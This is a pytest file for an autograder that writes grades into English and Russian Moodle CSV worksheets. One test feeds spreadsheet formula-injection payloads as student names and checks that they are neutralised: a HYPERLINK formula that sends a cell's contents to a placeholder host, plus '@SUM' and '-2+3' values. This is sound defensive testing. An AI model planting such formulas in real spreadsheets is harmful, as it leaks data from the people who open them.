"""Grades back into Moodle: worksheet round trips (EN, RU) in-process, and one run through the command."""
import csv
import io
import pathlib

import pytest

from autograder.classrun import moodle
from autograder.results import Note, StudentResult, TaskResult
from lms import EN, formgrader_students  # tests/ is on sys.path (pytest's rootdir insertion)

pytestmark = pytest.mark.xdist_group("moodle-class")  # reads the graded Moodle class of conftest.py

RU = ("Идентификатор,\"Полное имя\",\"Адрес электронной почты\",Состояние,Оценка,\"Максимальная оценка\","
      "\"Оценка может быть изменена\",\"Последнее изменение (ответ)\",\"Последнее изменение (оценка)\","
      "\"Отзыв в виде комментария\"\n"
      "\"Участник 1001\",\"Анна Петрова\",anna@example.org,\"Ответ для оценки\",,\"100,00\",Да,-,-,\n"
      "\"Участник 2002\",\"Пётр, Сидоров\",p@example.org,\"Нет ответа\",,\"100,00\",Да,-,-,\n")


def results():
    full = {k: TaskResult(k, points=p) for k, p in
            dict(head=2, multihead=1, feedforward=1, block=2, gpt_model=4).items()}
    anna = StudentResult("1001", tasks=dict(full), submission=[Note("03_feedforward", "missing")])
    anna.tasks["head"] = TaskResult("head", 1.5, [["no_scale", "Веса внимания не делятся на √head_size."]])
    anna.tasks["feedforward"] = TaskResult("feedforward", 0.0)
    locked = StudentResult("1003", tasks=dict(full))
    other = StudentResult("5555", tasks=dict(full))
    return {r.student_id: r for r in (anna, locked, other)}


def rows(text):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_english_round_trip(tmp_path):
    sheet = tmp_path / "worksheet.csv"
    sheet.write_bytes(EN.encode("utf-8"))
    path, filled, missing, held = moodle.write(tmp_path, results(), sheet)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and path.name == "moodle_grades.csv"
    text = raw.decode("utf-8")
    assert "\r\n" in text and text.count("\r\n") == EN.count("\r\n")
    before, after = rows(EN), rows(text)
    assert after[0] == before[0] and len(after) == len(before)
    assert after[1][4] == "8.50" and after[1][:4] == before[1][:4] and after[1][5:9] == before[1][5:9]
    assert after[1][9].startswith("Автопроверка: 8.5 из 10.")
    assert "Веса внимания не делятся на √head_size." in after[1][9] and "03_feedforward" in after[1][9]
    assert after[2] == before[2]            # not graded here: untouched
    assert after[3] == before[3]            # grade locked in Moodle: untouched
    assert filled == ["1001"] and missing == ["1003", "5555"]
    assert all(line.startswith('"') for line in text.lstrip("\ufeff").splitlines())   # quoting kept
    # the filled sheet is a worksheet again: filling it twice changes nothing
    again, _, _ = moodle.fill(text, results())
    assert again == text.lstrip("\ufeff")


def test_russian_round_trip_scales_to_maximum(tmp_path):
    sheet = tmp_path / "лист.csv"
    sheet.write_bytes(RU.encode("utf-8"))
    path, filled, missing, held = moodle.write(tmp_path, results(), sheet)
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8")
    before, after = rows(RU), rows(text)
    assert after[0] == before[0]
    assert after[1][4] == "85,00"           # 8.5 of 10 on Moodle's 100-point scale, Russian decimal comma
    assert after[2] == before[2] and after[2][1] == "Пётр, Сидоров"
    assert filled == ["1001"] and "\r\n" not in text


def test_fresh_worksheet_without_one(tmp_path):
    graded = results()
    graded["1001"].name = {"first_name": "Anna", "last_name": "Petrova", "email": "anna@example.org"}
    graded["not_moodle"] = StudentResult("not_moodle")
    path, filled, missing, held = moodle.write(tmp_path, graded)
    table = rows(path.read_text(encoding="utf-8-sig"))
    assert table[0] == [moodle.HEADERS["en"][k] for k in
                        ("id", "name", "email", "status", "grade", "max", "changeable",
                         "modified_submission", "modified_grade", "comments")]
    assert table[1][:3] == ["Participant 1001", "Anna Petrova", "anna@example.org"] and table[1][4] == "8.50"
    assert missing == ["not_moodle"] and sorted(filled) == ["1001", "1003", "5555"]
    # what we write, we can fill again
    assert moodle.fill(path.read_text(encoding="utf-8-sig"), graded)[1] == filled


def test_a_name_that_is_a_formula_stays_text_in_a_fresh_worksheet(tmp_path):
    """Names come from the LMS export's folder names, which students' profiles set."""
    graded = results()
    graded["1001"].name = {"first_name": "=HYPERLINK(\"http://x.example/?\"&A1,\"Anna\")", "last_name": "",
                           "email": "@SUM(1+1)"}
    graded["5555"].name = {"first_name": "-2+3", "last_name": "Ivanov", "email": "ivan@example.org"}
    path, _, _, _ = moodle.write(tmp_path, graded)
    table = {row[0]: row for row in rows(path.read_text(encoding="utf-8-sig"))}
    assert table["Participant 1001"][1:3] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"Anna\")", "'@SUM(1+1)"]
    assert table["Participant 5555"][1:3] == ["'-2+3 Ivanov", "ivan@example.org"]
    assert moodle.inert("Анна Петрова") == "Анна Петрова"


def test_failed_grading_is_held_back(tmp_path):
    """A student whose grading failed gets no grade in Moodle, in a worksheet or a fresh sheet."""
    graded = results()
    graded["1001"].error = "nbgrader autograde: RuntimeError: boom"
    sheet = tmp_path / "worksheet.csv"
    sheet.write_bytes(EN.encode("utf-8"))
    path, filled, missing, held = moodle.write(tmp_path, graded, sheet)
    assert held == ["1001"] and filled == [] and missing == ["1003", "5555"]
    assert rows(path.read_text(encoding="utf-8-sig"))[1] == rows(EN)[1]   # row untouched
    path, filled, missing, held = moodle.write(tmp_path, graded)
    assert held == ["1001"] and sorted(filled) == ["1003", "5555"]
    assert "Participant 1001" not in path.read_text(encoding="utf-8-sig")


def test_not_a_worksheet():
    with pytest.raises(ValueError):
        moodle.fill("a,b\n1,2\n", results())


@pytest.mark.slow
def test_command_fills_the_worksheet_and_names_reach_the_gradebook(moodle_class):
    out, done = moodle_class.out, moodle_class.done
    assert "moodle_grades.csv" in done.stdout
    after = rows((out / "moodle_grades.csv").read_text(encoding="utf-8-sig"))
    assert after[1][4] == "10.00" and after[2][4] == "0.00"
    assert after[3] == rows(EN)[3]
    # formgrader's own API on OUT/course lists the students by name
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory
    from autograder.nbconfig import course_config
    config = course_config(out / "course", f"sqlite:///{out / 'course' / 'gradebook.db'}")
    students = {s["id"]: s for s in NbGraderAPI(CourseDirectory(config=config), config=config).get_students()}
    assert (students["1001"]["first_name"], students["1001"]["last_name"]) == ("Anna", "Petrova")
    assert (students["1002"]["first_name"], students["1002"]["last_name"]) == ("Ivan", "Ivanov")
    assert students["1002"]["email"] == "ivan@example.org" and students["1001"]["email"] is None
    listed = {s["id"]: (s["first_name"], s["last_name"], s["score"]) for s in formgrader_students(out / "course")}
    assert listed == {"1001": ("Anna", "Petrova", 10.0), "1002": ("Ivan", "Ivanov", 0.0)}
    text = pathlib.Path(out / "report.html").read_text(encoding="utf-8")
    table = text[text.index('id="table"'):text.index('id="run"')]
    assert '<td data-v="1001">1001</td><td data-v="Petrova Anna">Petrova Anna</td>' in table
    # Anna's kit folder needs nobody's attention; Ivan's problem first, his stray file below
    attention = text[text.index('id="attention"'):text.index('id="glance"')]
    problems, notes = attention.split('id="file-notes"')
    assert "1001" not in attention and "attention_basics" not in attention
    assert "Ivanov Ivan (1002)" in problems and "нет ноутбука 04_block" in problems
    assert "my_model.py" not in problems and "не распознан файл &#x27;my_model.py&#x27;" in notes
